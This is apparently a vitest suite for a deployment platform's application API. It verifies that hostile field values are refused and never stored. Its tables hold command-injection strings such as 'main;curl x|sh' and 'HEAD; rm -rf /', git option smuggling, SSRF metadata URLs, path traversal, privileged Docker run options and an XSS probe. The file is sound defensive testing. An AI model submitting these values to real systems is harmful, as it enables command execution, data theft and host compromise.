import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApplicationTest, startApplicationTest } from './testing';

let test: ApplicationTest;
let token: string;
let uuid: string;
beforeAll(async () => {
  test = await startApplicationTest();
  token = await test.server.key(['root']);
  uuid = await test.addApplication({ autogenerate_domain: false });
});
afterAll(() => test.server.stop());

const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Rows of the table of hostile inputs: row, field, refused values. The example of the row is the first. */
const refused: [row: number, field: string, values: unknown[]][] = [
  [1, 'git_branch', ['--upload-pack=touch /tmp/x', '-b', '']],
  [
    2,
    'git_branch',
    [
      'main;curl x|sh',
      'a b',
      'a..b',
      'a@{1}',
      'a//b',
      '/a',
      'a/',
      'a.',
      'a.lock',
      'a~1',
      'a^',
      'a:b',
      'a?',
      'a*',
      'a[b',
      'a\\b',
      'a$b',
      'a`b`',
      "a'b",
      'a&b',
      'a<b',
      'a\nb',
      'a\u0000b',
    ],
  ],
  [3, 'git_commit_sha', ['HEAD; rm -rf /', 'main', 'ABCDEF0', 'abc', '-abcdef0']],
  [
    4,
    'git_repository',
    [
      'ext::sh -c id',
      'file:///etc',
      'git://host/path',
      'https://user:secret@host.example/path',
      'http://host.example/path',
      'https://-host/path',
      'ssh://-oProxyCommand=id/x',
      'https://host.example/-path',
      'host',
    ],
  ],
  [
    5,
    'git_repository',
    [
      'https://169.254.169.254/latest/meta-data',
      'https://127.0.0.1/x',
      'https://10.0.0.1/x',
      'https://[::1]/x',
      'https://[::ffff:127.0.0.1]/x',
      'https://localhost/x',
      'ssh://git@192.168.1.1/x',
      'https://2130706433/x',
      'https://0x7f.1/x',
    ],
  ],
  [7, 'custom_internal_name', ['a;id', 'A', '-a', 'a-', 'a'.repeat(64)]],
  [7, 'custom_network_aliases', ['a;id', 'a b']],
  [
    8,
    'base_directory',
    ['../../etc', '/a/../..', 'a', '/a%2e%2e', '/a\\b', '/a\u0000', `/${'a'.repeat(255)}`],
  ],
  [8, 'publish_directory', ['../../etc', '/a\nb']],
  [9, 'dockerfile_location', ['/Dockerfile $(id)', '/-f', '/a/-b/c', '/../Dockerfile']],
  [9, 'docker_compose_location', ['/x $(id)', '/-f']],
  [10, 'dockerfile_target_build', ['a b', '-a', 'a --privileged']],
  [10, 'custom_labels', [base64('A=1\n--privileged=x'), base64('gantry.managed=false'), 'not base64']],
  [11, 'ports_exposes', ['80;id', '0', '65536', '80,', '-1']],
  [
    11,
    'ports_mappings',
    [
      '80;id',
      '22:22',
      '80:80',
      '443:1',
      '9:9,9:10',
      '70000:1',
      '1:70000',
      'x:1:1',
      '9:9/sctp',
      '0.0.0.0:9:9,127.0.0.1:9:9',
      '[::1]:9:9,[0::1]:9:9',
    ],
  ],
  [
    19,
    'docker_registry_image_name',
    [
      'alpine;id',
      '-alpine',
      'a b',
      'UPPER',
      'alpine@sha256:abc',
      '169.254.169.254/a',
      '127.0.0.1:5000/a',
      'registry.example:70000/a',
      '',
    ],
  ],
  [19, 'docker_registry_image_tag', ['latest;id', '-x', 'a b', 'a/b']],
  [21, 'health_check_command', ['x" ; id', 'a\nb', 'a$b', 'a'.repeat(1001)]],
  [21, 'health_check_path', ['/a b', 'a', '/a;`id`']],
  [21, 'health_check_method', ['DELETE', 'GET\r\nX: y']],
  [21, 'health_check_host', ['a b', 'a;id', '-a']],
  [21, 'health_check_port', ['0', '65536', '80;id']],
  [
    22,
    'custom_docker_run_options',
    [
      '--privileged -v /:/h',
      '--cap-add=ALL',
      '--pid=host',
      '-v /:/h',
      '--network host',
      '--ulimit',
      '--sysctl kernel.x=1',
      '--device=/dev/sda',
    ],
  ],
  [34, 'name', ['<script>alert(1)</script>', 'a\u0000b', 'a\nb', 'a'.repeat(256), '']],
  [
    36,
    'domains',
    [
      'https://a.b;id',
      'ftp://a.example',
      'https://a.example:0',
      'https://a_b.example',
      'https://user@a.example',
      'https://a.example/x?y',
      'https://a.example/../x',
      'https://1.2.3.4',
      'https://a.example\r\nX: y',
      'a.example',
      'https://*.com',
      'https://*.co.uk',
      'https://*.github.io',
      'https://com',
    ],
  ],
  [36, 'noindex_domains', ['https://*.com', 'https://com']],
  [36, 'preview_url_template', ['{{domain}};id', 'a b', 'x\r\ny']],
];

const accepted: [row: number, field: string, values: unknown[]][] = [
  [2, 'git_branch', ['feature/a+b#1@2.x', 'release-1.0', 'refs-x', 'feat(ui)/x', 'v1.0.0', 'größe', '{x}!,']],
  [3, 'git_commit_sha', ['HEAD', 'abcdef0', 'a'.repeat(40), 'a'.repeat(64)]],
  [
    4,
    'git_repository',
    [
      'https://git.example/a/b.git',
      'ssh://git@git.example:2222/a/b.git',
      'git@git.example:a/b.git',
      'git@git.example:2222/a/b.git',
      'acme/web',
    ],
  ],
  [11, 'ports_mappings', ['[::1]:9:9/udp,127.0.0.1:9:9/udp', '0.0.0.0:9:9,[::]:9:9', null]],
  [
    19,
    'docker_registry_image_name',
    ['alpine', 'registry.example:5000/a/b:1', `alpine@sha256:${'a'.repeat(64)}`],
  ],
  [
    22,
    'custom_docker_run_options',
    ['--cap-drop ALL --init --ulimit nofile=1024:2048', '--shm-size=1g --dns 1.1.1.1'],
  ],
  [23, 'pre_deployment_command', ['true\nid', 'echo "$HOME" && ls | wc -l']],
  [34, 'description', ['<script>alert(1)</script>']],
  [36, 'domains', ['https://bücher.example/a-b~c,http://x.example:3000', '']],
];

const flat = (table: typeof refused) =>
  table.flatMap(([row, field, values]) => values.map((value) => [row, field, value] as const));

async function trpc(procedure: string, input: unknown): Promise<{ status: number; fields: string[] }> {
  const answer = await test.server.fetch('POST', `/api/trpc/${procedure}`, { token, body: input });
  const body = await answer.json();
  return { status: answer.status, fields: Object.keys(body.error?.data.fields ?? {}) };
}

describe('a hostile value', () => {
  it.each(flat(refused))(
    'row %i: %s = %j is refused by REST and tRPC, and nothing is stored',
    async (_row, field, value) => {
      const before = await test.server.database.unscoped.workload.findUniqueOrThrow({ where: { uuid } });
      const rest = await test.call('PATCH', `/applications/${uuid}`, { [field]: value });
      expect([rest.status, Object.keys(rest.body.errors ?? {})]).toEqual([422, [field]]);
      expect(await trpc('application.update', { uuid, [field]: value })).toEqual({
        status: 400,
        fields: [field],
      });
      expect(await test.server.database.unscoped.workload.findUniqueOrThrow({ where: { uuid } })).toEqual(
        before,
      );
    },
  );

  it('is refused by creation in the same way', async () => {
    const rows = await test.server.database.unscoped.workload.count();
    const { place } = test;
    // What only an update takes is not in the table of creation.
    for (const [, field, value] of flat(refused).filter(([, field]) => field !== 'dockerfile_target_build')) {
      const isGit = field.startsWith('git_') || field === 'base_directory';
      const source = isGit
        ? { git_repository: 'acme/web', git_branch: 'main', build_pack: 'static' }
        : { docker_registry_image_name: 'nginx' };
      const path = isGit ? '/applications/public' : '/applications/dockerimage';
      const answer = await test.call('POST', path, { ...place, ...source, [field]: value });
      expect([field, value, answer.status]).toEqual([field, value, 422]);
    }
    expect(await test.server.database.unscoped.workload.count()).toBe(rows);
  });

  it('is not echoed, and the refusal is on record with field and rule alone', async () => {
    const answer = await test.call('PATCH', `/applications/${uuid}`, { git_branch: '--canary-7f3a' });
    expect(JSON.stringify(answer.body)).not.toContain('canary');
    const [row] = await test.server.database.unscoped.auditLog.findMany({
      orderBy: { seq: 'desc' },
      take: 1,
    });
    expect(row).toMatchObject({
      action: 'application.update',
      outcome: 'failed',
      status: 422,
      detail: { fields: { git_branch: ['Must be a valid Git branch name.'] } },
    });
  });
});

describe('an unusual value that is legal', () => {
  it.each(flat(accepted))('row %i: %s = %j is stored', async (_row, field, value) => {
    const { status, body } = await test.call('PATCH', `/applications/${uuid}`, { [field]: value });
    expect([status, body]).toEqual([200, { uuid }]);
    const stored = (await test.call('GET', `/applications/${uuid}`)).body;
    expect(stored[field === 'domains' ? 'fqdn' : field]).toBe(value === '' ? null : value);
  });
});

describe('a variable', () => {
  it.each(['A B', '1A', 'A=1', 'A-B', '', 'a'.repeat(256), 'Ä'])('row 12: key %j is refused', async (key) => {
    const rest = await test.call('POST', `/applications/${uuid}/envs`, { key, value: 'x' });
    expect([rest.status, Object.keys(rest.body.errors)]).toEqual([422, ['key']]);
    expect(await trpc('application.createEnv', { uuid, key, value: 'x' })).toEqual({
      status: 400,
      fields: ['key'],
    });
    const bulk = await test.call('PATCH', `/applications/${uuid}/envs/bulk`, { data: [{ key, value: 'x' }] });
    expect([bulk.status, Object.keys(bulk.body.errors)]).toEqual([422, ['data.0.key']]);
  });

  it.each([
    ['NUL', 'a\u0000b'],
    ['more than 64 KB', 'x'.repeat(64 * 1024 + 1)],
  ])('row 13: a value with %s is refused', async (_, value) => {
    const answer = await test.call('POST', `/applications/${uuid}/envs`, { key: 'K', value });
    expect([answer.status, Object.keys(answer.body.errors)]).toEqual([422, ['value']]);
  });

  it('row 54: the 1001st of a resource is refused, naming the limit', async () => {
    const full = await test.addApplication();
    const data = Array.from({ length: 1000 }, (_, index) => ({
      key: `K${index}`,
      value: 'x',
      is_preview: true,
    }));
    expect((await test.call('PATCH', `/applications/${full}/envs/bulk`, { data })).status).toBe(201);
    const answer = await test.call('POST', `/applications/${full}/envs`, {
      key: 'ONE_MORE',
      value: 'x',
      is_preview: true,
    });
    expect(answer).toMatchObject({
      status: 422,
      body: { errors: { key: [expect.stringContaining('1000')] } },
    });
  });
});
